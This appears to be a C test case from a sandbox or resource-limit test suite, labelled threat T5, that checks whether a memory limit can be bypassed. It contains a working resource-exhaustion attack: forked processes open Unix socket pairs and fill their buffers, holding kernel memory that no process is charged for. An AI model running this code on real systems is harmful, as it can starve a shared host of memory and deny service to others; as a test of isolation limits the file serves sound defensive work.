// threat: T5; ends: memory-limit
// Fills the buffers of pairs of sockets in a few processes: they are the kernel's memory, and no process shows them.
#include "attack.h"

static size_t fill(void) {
    static char block[65536];
    size_t held = 0;
    int ends[2];
    while (socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0)
        for (int end = 0; end < 2; end++) {
            fcntl(ends[end], F_SETFL, O_NONBLOCK);
            for (ssize_t sent; (sent = write(ends[end], block, sizeof block)) > 0;) held += sent;
        }
    return held;
}

int main(void) {
    for (int i = 0; i < 2; i++)
        if (fork() == 0) {
            fill();
            pause();
        }
    size_t held = fill();
    sleep(1);
    attempt("more memory than allowed in three times these buffers", 3 * held > (256 << 20));
    return end();
}
